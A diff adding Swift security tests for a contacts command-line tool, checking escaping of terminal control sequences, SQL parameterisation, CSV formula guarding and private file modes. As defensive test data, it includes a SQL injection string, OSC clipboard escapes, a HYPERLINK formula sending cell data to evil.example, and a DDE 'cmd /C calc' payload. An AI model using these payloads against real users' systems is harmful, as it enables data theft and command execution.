@@ -1,0 +1,218 @@
+import Foundation
+import Glibc
+import ProspectsTestSupport
+import Testing
+
+/// What the binary prints and writes, given hostile data: human output escaped on every path, SQL parameterised,
+/// CSV formulas guarded, and every file it creates private to its owner.
+@Suite struct OutputSafetyTests {
+    let samples = ProspectsProcess.sampleImages()
+
+    /// Runs the binary with umask 000, so the modes of the files it creates are its own choice, not the umask's.
+    static let noUmask = ["/bin/sh", "-c", #"umask 000; exec "$0" "$@""#]
+
+    static func mode(_ path: String) -> Int? {
+        var info = stat()
+        guard stat(path, &info) == 0 else { return nil }
+        return Int(info.st_mode & 0o777)
+    }
+
+    static func sqlite3(_ database: String, _ sql: String) throws -> String {
+        let process = Process()
+        process.executableURL = URL(fileURLWithPath: "/usr/bin/sqlite3")
+        process.arguments = [database, sql]
+        let out = Pipe()
+        process.standardOutput = out
+        try process.run()
+        let data = out.fileHandleForReading.readDataToEndOfFile()
+        process.waitUntilExit()
+        #expect(process.terminationStatus == 0, "sqlite3 \(sql)")
+        return String(decoding: data, as: UTF8.self)
+    }
+
+    /// The classic injection, imported as a name (the parser accepts it: it is printable text), is stored and
+    /// listed verbatim, and the table it names is still there.
+    @Test(arguments: StoreKind.allCases)
+    func anSQLInjectionNameIsStoredVerbatim(_ kind: StoreKind) throws {
+        let folder = try TemporaryDirectory()
+        let store = try kind.makeStore(in: folder)
+        let name = "Robert'); DROP TABLE prospects;--"
+        let csv = folder.file("list.csv")
+        try Data("name,email\n\"\(name)\",bobby@example.com\nPaul Hudson,paul@example.com\n".utf8).write(
+            to: URL(fileURLWithPath: csv))
+        let imported = try ProspectsProcess.run(["import", "--format", "csv", "--store", store, csv])
+        #expect(imported.status == 0, "\(imported.stderr)")
+
+        let listed = try ProspectsProcess.run(["list", "--json", "--store", store])
+        #expect(listed.status == 0)
+        let names = try listed.lines.map { line in
+            try #require(try JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any])["name"] as? String
+        }
+        #expect(Set(names.compactMap { $0 }) == [name, "Paul Hudson"])
+        let shown = try ProspectsProcess.run(["show", "--store", store, "bobby@example.com"])
+        #expect(shown.output.contains(name))
+        if kind == .sqlite {
+            #expect(
+                try Self.sqlite3(store, "SELECT name FROM prospects WHERE email = 'bobby@example.com'") == name + "\n")
+        }
+    }
+
+    /// A store written by something else (an older version, a hand edit, another tool) may hold any text: every
+    /// human view of it escapes, JSON escapes, and nothing reaches the terminal raw. Also argv echoed in errors.
+    @Test func everyHumanOutputPathEscapesWhatTheStoreHolds() throws {
+        let folder = try TemporaryDirectory()
+        let store = folder.file("prospects.sqlite")
+        let paul = samples.appendingPathComponent("01-paul-hudson.png").path
+        #expect(try ProspectsProcess.run(["ingest", "--store", store, paul]).status == 0)
+        // ESC ]0; title, BEL, OSC 52 clipboard, U+202E, U+200B, C1 CSI: written behind the program's back.
+        let hostile =
+            "char(27)||']0;pwned'||char(7)||'Eve'||char(27)||']52;c;eA=='||char(7)||char(8238)||'ti'||char(8203)||char(155)"
+        _ = try Self.sqlite3(
+            store,
+            "UPDATE prospects SET name = \(hostile), phone = \(hostile), organization = \(hostile), "
+                + "first_source = 'scans/'||\(hostile)||'.png', remind_at = 0")
+
+        var runs: [(String, ProspectsProcess.Result)] = []
+        for arguments in [
+            ["list"], ["list", "--json"], ["list", "--sort", "recent", "--reverse"],
+            ["show", "paul@hackingwithswift.com"],
+            ["show", "--json", "1"], ["due"], ["due", "--json"],
+            ["mark", "--contacted", "paul@hackingwithswift.com", "\u{1B}]0;argv\u{7}@example.com"],
+            ["delete", "\u{1B}[2J\u{202E}"], ["show", "\u{9B}31m"], ["list", "--sort", "\u{1B}]0;x\u{7}"],
+            ["list", "--\u{1B}[2J"], ["\u{1B}]0;cmd\u{7}"],
+        ] {
+            runs.append((arguments.joined(separator: " "), try ProspectsProcess.run(arguments + ["--store", store])))
+        }
+        for (what, result) in runs {
+            HostileInputTests.expectTerminalSafe(result.stdout, "\(what): stdout")
+            HostileInputTests.expectTerminalSafe(Data(result.stderr.utf8), "\(what): stderr")
+        }
+        let list = try #require(runs.first { $0.0 == "list" }?.1)
+        #expect(list.output.contains(#"\u{1B}]0;pwned\u{7}Eve"#))
+        let due = try #require(runs.first { $0.0 == "due" }?.1)
+        #expect(due.output.contains(#"\u{202E}ti\u{200B}\u{9B}"#), "\(due.output)")
+        // JSON keeps the exact text for programs, escaped as JSON.
+        let json = try #require(runs.first { $0.0 == "list --json" }?.1)
+        let object = try #require(try JSONSerialization.jsonObject(with: json.stdout) as? [String: Any])
+        #expect(object["name"] as? String == "\u{1B}]0;pwned\u{7}Eve\u{1B}]52;c;eA==\u{7}\u{202E}ti\u{200B}\u{9B}")
+    }
+
+    /// Cells a spreadsheet would run as formulas get the `'` guard in a CSV export, and the file is mode 0600.
+    @Test func csvExportGuardsFormulasAndIsOwnerOnly() throws {
+        let folder = try TemporaryDirectory()
+        let store = folder.file("prospects.sqlite")
+        let formulas = [
+            #"=HYPERLINK("http://evil.example/?"&A1,"invoice")"#, "+SUM(1,2)", "-2+3", "@SUM(1)",
+            #"=cmd|' /C calc'!A0"#,
+        ]
+        var csv = "name,email,organization\n"
+        for (index, formula) in formulas.enumerated() {
+            let quoted = "\"" + formula.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+            csv += "\(quoted),f\(index)@example.com,\(quoted)\n"
+        }
+        try Data(csv.utf8).write(to: URL(fileURLWithPath: folder.file("in.csv")))
+        let imported = try ProspectsProcess.run(["import", "--format", "csv", "--store", store, folder.file("in.csv")])
+        #expect(imported.status == 0, "\(imported.stderr)")
+
+        let out = folder.file("out.csv")
+        let exported = try ProspectsProcess.run(
+            ["export", "--format", "csv", "-o", out, "--store", store], launcher: Self.noUmask)
+        #expect(exported.status == 0, "\(exported.stderr)")
+        #expect(Self.mode(out) == 0o600)
+        // Every cell, as a CSV reader sees it, starts with something other than = + - @.
+        let text = try String(contentsOfFile: out, encoding: .utf8)
+        for formula in formulas {
+            let cell = "'" + formula
+            let quoted = "\"" + cell.replacingOccurrences(of: "\"", with: "\"\"") + "\""
+            #expect(text.contains(cell) || text.contains(quoted), "\(formula) is not guarded in \(text)")
+        }
+        for line in text.split(separator: "\n").dropFirst() {
+            #expect(!"=+-@".contains(line.first ?? " "), "\(line)")
+            #expect(!line.contains(",=") && !line.contains(",+") && !line.contains(",@"), "\(line)")
+        }
+    }
+
+    /// The store (and its -wal/-shm while open), export and encode outputs: mode 0600 even with umask 000.
+    @Test func filesItCreatesAreOwnerOnlyWhateverTheUmask() throws {
+        let folder = try TemporaryDirectory()
+        let store = folder.file("prospects.sqlite")
+        let paul = samples.appendingPathComponent("01-paul-hudson.png").path
+        let ingested = try ProspectsProcess.run(["ingest", "--store", store, paul], launcher: Self.noUmask)
+        #expect(ingested.status == 0, "\(ingested.stderr)")
+        #expect(Self.mode(store) == 0o600)
+
+        // -wal and -shm exist while a connection is open: hold one open (sqlite3 reading a query from a pipe
+        // that stays open), then run the binary again with umask 000, and look.
+        let holder = Process()
+        holder.executableURL = URL(fileURLWithPath: "/bin/sh")
+        holder.arguments = ["-c", #"umask 000; exec /usr/bin/sqlite3 "$0""#, store]
+        let input = Pipe()
+        let output = Pipe()
+        holder.standardInput = input
+        holder.standardOutput = output
+        try holder.run()
+        input.fileHandleForWriting.write(Data("SELECT count(*) FROM prospects;\n".utf8))
+        _ = output.fileHandleForReading.availableData  // the answer: the connection is open
+        let listed = try ProspectsProcess.run(["list", "--store", store], launcher: Self.noUmask)
+        #expect(listed.status == 0)
+        for suffix in ["-wal", "-shm"] {
+            let mode = Self.mode(store + suffix)
+            #expect(mode == 0o600, "\(suffix): \(mode.map { String($0, radix: 8) } ?? "missing")")
+        }
+        try input.fileHandleForWriting.close()
+        holder.waitUntilExit()
+
+        let card = folder.file("me.png")
+        let encoded = try ProspectsProcess.run(
+            ["encode", "--name", "Paul Hudson", "--email", "paul@example.com", "-o", card], launcher: Self.noUmask)
+        #expect(encoded.status == 0, "\(encoded.stderr)")
+        #expect(Self.mode(card) == 0o600)
+        for format in ["json", "vcard"] {
+            let file = folder.file("export.\(format)")
+            let exported = try ProspectsProcess.run(
+                ["export", "--format", format, "-o", file, "--store", store], launcher: Self.noUmask)
+            #expect(exported.status == 0)
+            #expect(Self.mode(file) == 0o600, "\(format)")
+        }
+    }
+}
+
+/// A field of a list, or an option of `encode`, is that field only: it cannot smuggle in a whole other payload.
+@Suite struct FieldInjectionTests {
+    @Test func anImportedNameHoldingAMECARDKeepsTheRowsAddress() throws {
+        let folder = try TemporaryDirectory()
+        let store = folder.file("prospects.sqlite")
+        let csv = folder.file("list.csv")
+        try Data(
+            "name,email\n\"MECARD:N:Eve;EMAIL:eve@evil.example;;\",paul@example.com\n\"tel:+1 555 0100\",t@example.com\n"
+                .utf8
+        ).write(to: URL(fileURLWithPath: csv))
+        let imported = try ProspectsProcess.run(["import", "--format", "csv", "--store", store, csv])
+        #expect(imported.status == 0, "\(imported.stderr)")
+        let listed = try ProspectsProcess.run(["list", "--json", "--store", store])
+        #expect(listed.output.contains(#""email":"paul@example.com""#))
+        #expect(listed.output.contains(#""name":"MECARD:N:Eve;EMAIL:eve@evil.example;;""#))
+        #expect(!listed.output.contains("eve@evil.example\""))
+        #expect(listed.lines.count == 2)
+    }
+
+    @Test func encodeWritesOnlyCardsThatReadBackAsTheGivenContact() throws {
+        let folder = try TemporaryDirectory()
+        let name = "MECARD:N:Eve;EMAIL:eve@evil.example;;"
+        let lines = try ProspectsProcess.run(
+            ["encode", "--name", name, "--email", "paul@example.com", "-o", folder.file("lines.png")])
+        #expect(lines.status == 64, "\(lines.stderr)")
+        #expect(!FileManager.default.fileExists(atPath: folder.file("lines.png")))
+        let vcard = try ProspectsProcess.run(
+            ["encode", "--name", name, "--email", "paul@example.com", "--format", "vcard", "-o", folder.file("v.png")])
+        #expect(vcard.status == 0, "\(vcard.stderr)")
+        let decoded = try ProspectsProcess.run(["decode", "--json", folder.file("v.png")])
+        #expect(decoded.output.contains(#""email":"paul@example.com""#), "\(decoded.output)")
+        let phone = try ProspectsProcess.run(
+            [
+                "encode", "--name", "Paul", "--email", "p@example.com", "--phone", "\u{1B}]0;x", "-o",
+                folder.file("p.png"),
+            ])
+        #expect(phone.status == 64)
+    }
+}
